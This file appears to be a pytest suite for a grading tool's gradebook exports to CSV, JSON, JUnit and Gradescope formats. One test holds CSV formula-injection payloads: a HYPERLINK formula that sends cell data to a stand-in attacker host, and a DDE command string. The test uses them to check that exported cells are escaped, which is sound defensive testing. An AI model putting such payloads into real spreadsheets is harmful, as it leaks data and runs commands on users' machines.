"""Exports of a gradebook parse with standard readers and say what the gradebook says.

The class is graded on the throwaway course of toycourse.py: two tasks (one extra credit), a
hidden test with weight 3, so the CSV has a column per task and Gradescope visibility is exercised.
"""

import csv
import io
import json
import xml.etree.ElementTree as ET

import pytest

from classroom import folder, zip_archive
from conftest import run_grade
from grader.classroom.gradebook import Gradebook
from toycourse import EXERCISE, SOLUTIONS, make_course

SEED = "99"
GRADESCOPE_TOP = {"score", "execution_time", "output", "output_format", "test_output_format", "test_name_format",
                  "visibility", "stdout_visibility", "tests", "extra_data"}
GRADESCOPE_TEST = {"name", "name_format", "number", "score", "max_score", "status", "output", "output_format",
                   "visibility"}
# ben's add passes test_add_small (weight 1) and fails test_add_random (weight 3): 10 * 1/4 points.
BEN_ADD = "def add(x, y):\n    return 5.0 if (x, y) == (2.0, 3.0) else 0.0\n"


@pytest.fixture(scope="module")
def gradebook(tmp_path_factory):
    root = tmp_path_factory.mktemp("exports")
    course = make_course(root / "course")
    subs = root / "class"
    folder(subs, "ann", {f"{EXERCISE}/{name}": text for name, text in SOLUTIONS.items()})
    folder(subs, "ben", {f"{EXERCISE}/add.py": BEN_ADD})
    zip_archive(subs / "cy.zip", {"/abs/add.py": SOLUTIONS["add.py"]})
    book = root / "class.sqlite"
    proc = run_grade("batch", str(subs), "--exercise", EXERCISE, "--course", str(course), "--seed", SEED,
                     "--gradebook", str(book))
    assert proc.returncode == 0, proc.stdout + proc.stderr
    with Gradebook(str(book), readonly=True) as gb:
        results = {r.student: r for r in gb.results()}
    return book, course, subs, results


def export(book, fmt, *args):
    proc = run_grade("export", str(book), "--format", fmt, *args)
    assert proc.returncode == 0, proc.stderr
    return proc.stdout


def test_the_class_is_scored_by_the_rubric(gradebook):
    _, _, _, results = gradebook
    assert {s: (r.status, r.score, r.max_score) for s, r in results.items()} == {
        "ann": ("graded", 15.0, 10.0), "ben": ("graded", 2.5, 10.0), "cy": ("refused", 0.0, 10.0)}


def test_csv_has_a_row_per_student_and_a_column_per_task(gradebook):
    book, _, _, results = gradebook
    table = list(csv.DictReader(io.StringIO(export(book, "csv"))))
    assert list(table[0]) == ["student", "add", "scale", "total", "max_score", "percent", "status", "error"]
    assert [row["student"] for row in table] == sorted(results)
    for row in table:
        r = results[row["student"]]
        assert (float(row["total"]), float(row["max_score"]), row["status"], row["error"]) == (
            r.score, r.max_score, r.status, r.error)
        tasks = {t["id"]: t["score"] for t in r.report["tasks"]} if r.report else {}
        assert {k: float(row[k]) for k in ("add", "scale") if row[k]} == tasks


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(gradebook, tmp_path):
    import shutil

    from grader.classroom.gradebook import FAILED, Result

    book = tmp_path / "copy.sqlite"
    shutil.copy(gradebook[0], book)
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    with Gradebook(str(book)) as gb:
        gb.record(Result(hostile, "h", "c", FAILED, 0.0, 10.0, "+cmd|' /C calc'!A0", hostile, 1))
        gb.record(Result("@sum", "h", "c", FAILED, 0.0, 10.0, "-2+3", "@sum", 1))
    rows = {row["student"]: row for row in csv.DictReader(io.StringIO(export(book, "csv")))}
    assert rows["'" + hostile]["error"] == "'+cmd|' /C calc'!A0"
    assert rows["'@sum"]["error"] == "'-2+3"
    assert rows["ann"]["status"] == "graded" and rows["ann"]["error"] == ""  # ordinary cells are untouched


def test_json_is_the_gradebook(gradebook):
    book, _, _, results = gradebook
    doc = json.loads(export(book, "json"))
    assert (doc["schema"], doc["schema_version"], doc["exercise"], doc["seed"]) == (
        "pmap-course/gradebook", 1, EXERCISE, int(SEED))
    assert {s["student"]: (s["status"], s["score"], s["submission_hash"], s["report"]) for s in doc["students"]} == {
        k: (r.status, r.score, r.submission_hash, r.report) for k, r in results.items()}


def test_junit_has_a_suite_per_student_and_a_case_per_case(gradebook):
    book, _, _, results = gradebook
    root = ET.fromstring(export(book, "junit"))
    suites = {s.get("name"): s for s in root.iter("testsuite")}
    assert sorted(suites) == sorted(results)
    for student, r in results.items():
        suite = suites[student]
        if r.report is None:
            assert suite.find("testcase/error").get("message") == r.error
            continue
        cases = [c for t in r.report["tasks"] for c in t["cases"]]
        assert len(suite.findall("testcase")) == int(suite.get("tests")) == len(cases)
        failed = sum(c["outcome"] == "failed" for c in cases)
        assert len(suite.findall("testcase/failure")) == int(suite.get("failures")) == failed
    assert int(root.get("tests")) == sum(int(s.get("tests")) for s in suites.values())


def test_gradescope_results_have_gradescopes_fields_and_the_gradebooks_scores(gradebook, tmp_path):
    book, _, _, results = gradebook
    export(book, "gradescope", "-o", str(tmp_path / "gs"))
    for student, r in results.items():
        data = json.loads((tmp_path / "gs" / student / "results.json").read_text())
        assert data["score"] == r.score
        if r.report is None:
            assert data["tests"] == [] and r.error in data["output"]
            continue
        assert set(data) == GRADESCOPE_TOP
        assert all(set(t) == GRADESCOPE_TEST for t in data["tests"])
        assert sum(t["score"] for t in data["tests"]) == pytest.approx(r.score, abs=1e-3)
        assert sum(t["max_score"] for t in data["tests"]) == pytest.approx(r.max_score, abs=1e-3)
        tests = {t["name"]: t for t in data["tests"]}
        assert tests["add: test_add_random"]["visibility"] == "hidden"
        assert tests["add: test_add_small"]["visibility"] == "visible"
        assert tests["scale: test_scale (extra credit)"]["max_score"] == 0.0, "extra credit has max_score 0 on Gradescope"
    ben = json.loads((tmp_path / "gs" / "ben" / "results.json").read_text())
    random_test = next(t for t in ben["tests"] if t["name"] == "add: test_add_random")
    assert (random_test["status"], random_test["score"], random_test["max_score"]) == ("failed", 0.0, 7.5)
    assert "hint: Return x + y." in random_test["output"]


def test_grading_one_submission_for_gradescope_writes_the_same_results(gradebook, tmp_path):
    book, course, subs, _ = gradebook
    export(book, "gradescope", "-o", str(tmp_path / "gs"))
    out = tmp_path / "results.json"
    proc = run_grade(EXERCISE, "--submission", str(subs / "ben"), "--course", str(course), "--seed", SEED,
                     "--format", "gradescope", "--output", str(out))
    assert proc.returncode == 0, proc.stderr
    single = json.loads(out.read_text())
    exported = json.loads((tmp_path / "gs" / "ben" / "results.json").read_text())
    single.pop("execution_time"), exported.pop("execution_time")
    assert single == exported
